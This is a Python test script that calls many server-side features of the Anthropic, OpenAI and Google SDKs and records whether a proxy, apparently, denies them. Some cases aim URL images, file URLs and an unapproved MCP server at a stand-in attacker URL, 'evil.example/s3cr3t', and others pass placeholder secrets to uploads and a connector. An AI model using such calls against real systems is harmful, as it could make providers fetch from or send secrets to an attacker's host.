# Every feature by which a model's provider would reach out for an agent, asked for as the vendors' own SDKs ask for it. The one
# table of them: `list` prints it, MODE plays it and leaves what came of each in MODE.json, in the working directory.
#
# Of a case: its name, what `server_tools` of a route calls it, and the call. None: nothing of the kind, and allowed. PATH: an
# endpoint that no list of features opens.
import json
import sys

PATH = "metered_path_unknown"
EVIL = "https://evil.example/s3cr3t"
PNG = "iVBORw0KGgo="
MODEL = "m"


def user(content):
    return [{"role": "user", "content": content}]


# Anthropic.
def message(content="hi", create=None, **more):
    return (create or A.messages.create)(model="claude-x", max_tokens=9, messages=user(content), **more)


def beta(content="hi", **more):
    return message(content, A.beta.messages.create, **more)


def linked(kind):
    return {"type": kind, "source": {"type": "url", "url": EVIL}}


def streamed(content):
    with A.messages.stream(model="claude-x", max_tokens=9, messages=user(content)) as stream:
        return stream.get_final_message()


def result(content):
    return [{"type": "tool_result", "tool_use_id": "t", "content": content}]


# OpenAI.
def respond(content="hi", **more):
    text = content if isinstance(content, str) else [{"role": "user", "content": content}]
    return O.responses.create(model="gpt-x", input=text, **more)


def openai_tool(kind, **more):
    return respond(tools=[{"type": kind, **more}])


# Google.
def generate(contents="hi", **config):
    return G.models.generate_content(model="gemini-x", contents=contents, config=config or None)


def google_tool(**tool):
    return generate(tools=[T.Tool(**tool)])


def file_part():
    return T.Part.from_uri(file_uri=EVIL, mime_type="image/png")


CASES = [
    ("anthropic", None, lambda: message()),
    ("anthropic, streamed", None, lambda: streamed("hi")),
    ("anthropic, a picture in the body", None, lambda: message([{"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": PNG}}])),
    ("anthropic, the client's tools", None, lambda: message(tools=[{"name": "web_search", "input_schema": {"type": "object"}}, {"type": "bash_20250124", "name": "bash"}])),
    ("anthropic, counting", None, lambda: A.messages.count_tokens(model="claude-x", messages=user("hi"))),
    ("anthropic, image by URL", "url_image", lambda: message([linked("image")])),
    ("anthropic, image by URL, streamed", "url_image", lambda: streamed([linked("image")])),
    ("anthropic, image by URL, counted", "url_image", lambda: A.messages.count_tokens(model="claude-x", messages=user([linked("image")]))),
    ("anthropic, image by URL in a result", "url_image", lambda: message(result([linked("image")]))),
    ("anthropic, document by URL", "url_document", lambda: message([linked("document")])),
    ("anthropic, file", "file_id", lambda: beta([{"type": "document", "source": {"type": "file", "file_id": "file_1"}}], betas=["files-api-2025-04-14"])),
    ("anthropic, file for a container", "file_id", lambda: beta([{"type": "container_upload", "file_id": "file_1"}], betas=["files-api-2025-04-14"])),
    ("anthropic, MCP", "mcp_servers", lambda: beta(mcp_servers=[{"type": "url", "url": EVIL, "name": "x"}], betas=["mcp-client-2025-04-04"])),
    ("anthropic, MCP's tools", "mcp_toolset", lambda: beta(tools=[{"type": "mcp_toolset", "mcp_server_name": "x"}], betas=["mcp-client-2025-11-20"])),
    ("anthropic, web search", "web_search", lambda: message(tools=[{"type": "web_search_20250305", "name": "web_search"}])),
    ("anthropic, web fetch", "web_fetch", lambda: beta(tools=[{"type": "web_fetch_20250910", "name": "web_fetch"}], betas=["web-fetch-2025-09-10"])),
    ("anthropic, code", "code_execution", lambda: beta(tools=[{"type": "code_execution_20250825", "name": "code_execution"}], betas=["code-execution-2025-08-25"])),
    ("anthropic, container", "container", lambda: beta(container="container_1")),
    ("anthropic, skills", "container", lambda: beta(container={"skills": [{"type": "custom", "skill_id": "x"}]}, betas=["skills-2025-10-02"])),
    ("anthropic, batch", PATH, lambda: A.messages.batches.create(requests=[{"custom_id": "a", "params": {"model": "claude-x", "max_tokens": 9, "messages": user("hi")}}])),
    ("anthropic, what a batch gave", PATH, lambda: A.messages.batches.retrieve("msgbatch_1")),
    ("anthropic, upload", PATH, lambda: A.beta.files.upload(file=("a.txt", b"s3cr3t", "text/plain"))),
    ("openai", None, lambda: respond()),
    ("openai, a picture in the body", None, lambda: respond([{"type": "input_image", "image_url": "data:image/png;base64," + PNG}])),
    ("openai, the client's tools", None, lambda: openai_tool("function", name="web_search", parameters={"type": "object", "properties": {}}, strict=False)),
    ("openai, counting", None, lambda: O.responses.input_tokens.count(model="gpt-x", input="hi")),
    ("openai, image by URL", "url_image", lambda: respond([{"type": "input_image", "image_url": EVIL}])),
    ("openai, image by URL, counted", "url_image", lambda: O.responses.input_tokens.count(model="gpt-x", input=[{"role": "user", "content": [{"type": "input_image", "image_url": EVIL}]}])),
    ("openai, image by URL, streamed", "url_image", lambda: list(respond([{"type": "input_image", "image_url": EVIL}], stream=True))),
    ("openai, image by URL in a result", "url_image", lambda: O.responses.create(model="gpt-x", input=[{"type": "function_call_output", "call_id": "c", "output": [{"type": "input_image", "image_url": EVIL}]}])),
    ("openai, document by URL", "url_document", lambda: respond([{"type": "input_file", "file_url": EVIL}])),
    ("openai, file", "file_id", lambda: respond([{"type": "input_file", "file_id": "file-1"}])),
    ("openai, image file", "file_id", lambda: respond([{"type": "input_image", "file_id": "file-1"}])),
    ("openai, previous response", "previous_response", lambda: respond(previous_response_id="resp_1")),
    ("openai, previous response, compacted", "previous_response", lambda: O.responses.compact(model="gpt-x", input="hi", previous_response_id="resp_1")),
    ("openai, conversation", "conversation", lambda: respond(conversation="conv_1")),
    ("openai, conversation by object", "conversation", lambda: respond(conversation={"id": "conv_1"})),
    ("openai, background", "background", lambda: respond(background=True)),
    ("openai, prompt", "prompt", lambda: respond(prompt={"id": "pmpt_1"})),
    ("openai, stored item", "item_reference", lambda: O.responses.create(model="gpt-x", input=[{"type": "item_reference", "id": "msg_1"}, {"role": "user", "content": "hi"}])),
    ("openai, web search", "web_search", lambda: openai_tool("web_search")),
    ("openai, web search, dated", "web_search", lambda: openai_tool("web_search_2025_08_26")),
    ("openai, web search preview", "web_search_preview", lambda: openai_tool("web_search_preview")),
    ("openai, file search", "file_search", lambda: openai_tool("file_search", vector_store_ids=["vs_1"])),
    ("openai, code", "code_interpreter", lambda: openai_tool("code_interpreter", container={"type": "auto"})),
    ("openai, a shell there", "shell", lambda: openai_tool("shell", environment={"type": "container_auto"})),
    ("openai, pictures", "image_generation", lambda: openai_tool("image_generation")),
    ("openai, MCP", "mcp", lambda: openai_tool("mcp", server_label="x", server_url=EVIL, require_approval="never")),
    ("openai, a connector", "mcp", lambda: openai_tool("mcp", server_label="x", connector_id="connector_gmail", authorization="s3cr3t")),
    ("openai, batch", PATH, lambda: O.batches.create(input_file_id="file-1", endpoint="/v1/responses", completion_window="24h")),
    ("openai, upload", PATH, lambda: O.files.create(file=("a.jsonl", b"s3cr3t"), purpose="batch")),
    ("openai, another's input", PATH, lambda: O.responses.input_items.list("resp_1")),
    ("openai, new conversation", PATH, lambda: O.conversations.create(items=[{"role": "user", "content": "s3cr3t"}])),
    ("openai, new container", PATH, lambda: O.containers.create(name="s3cr3t")),
    ("openai, new store", PATH, lambda: O.vector_stores.create(name="s3cr3t")),
    ("google", None, lambda: generate()),
    ("google, streamed", None, lambda: list(G.models.generate_content_stream(model="gemini-x", contents="hi"))),
    ("google, a picture in the body", None, lambda: generate([T.Part.from_bytes(data=b"\x89PNG", mime_type="image/png")])),
    ("google, the client's tools", None, lambda: google_tool(function_declarations=[{"name": "google_search"}])),
    ("google, counting", None, lambda: G.models.count_tokens(model="gemini-x", contents="hi")),
    ("google, file by URL", "file_uri", lambda: generate([file_part()])),
    ("google, file by URL, counted", "file_uri", lambda: G.models.count_tokens(model="gemini-x", contents=[file_part()])),
    ("google, file by URL, streamed", "file_uri", lambda: list(G.models.generate_content_stream(model="gemini-x", contents=[file_part()]))),
    ("google, file by URL in what the system says", "file_uri", lambda: generate(system_instruction=[file_part()])),
    ("google, search", "google_search", lambda: google_tool(google_search=T.GoogleSearch())),
    ("google, older search", "google_search_retrieval", lambda: google_tool(google_search_retrieval=T.GoogleSearchRetrieval())),
    ("google, maps", "google_maps", lambda: google_tool(google_maps=T.GoogleMaps())),
    ("google, pages", "url_context", lambda: google_tool(url_context=T.UrlContext())),
    ("google, code", "code_execution", lambda: google_tool(code_execution=T.ToolCodeExecution())),
    ("google, file search", "file_search", lambda: google_tool(file_search=T.FileSearch(file_search_store_names=["fileSearchStores/x"]))),
    ("google, what is kept", "cached_content", lambda: generate(cached_content="cachedContents/x")),
    ("google, keeping", PATH, lambda: G.caches.create(model="gemini-x", config={"contents": ["s3cr3t"]})),
    ("google, batch", PATH, lambda: G.batches.create(model="gemini-x", src=[{"contents": [{"role": "user", "parts": [{"text": "s3cr3t"}]}]}])),
    ("google, embedding", PATH, lambda: G.models.embed_content(model="gemini-x", contents="s3cr3t")),
]


def play(mode):
    global A, O, G, T
    import anthropic
    import openai
    from google import genai
    from google.genai import types

    A = anthropic.Anthropic(api_key="placeholder", max_retries=0)
    O = openai.OpenAI(api_key="placeholder", max_retries=0)
    G = genai.Client(api_key="placeholder")
    T = types
    got = []
    for name, feature, call in CASES:
        status, text = 200, ""
        try:
            call()
        except Exception as error:
            status = getattr(error, "status_code", None) or getattr(error, "code", None) or 0
            kind = getattr(getattr(error, "response", None), "headers", {}).get("x-bb-deny")
            text = f"{kind} {type(error).__name__}: {error}"
        got.append({"name": name, "feature": feature, "status": status, "text": text})
    with open(f"{mode}.json", "w") as file:
        json.dump(got, file)


if sys.argv[1] == "list":
    print(json.dumps([{"name": name, "feature": feature} for name, feature, _ in CASES]))
else:
    play(sys.argv[1])
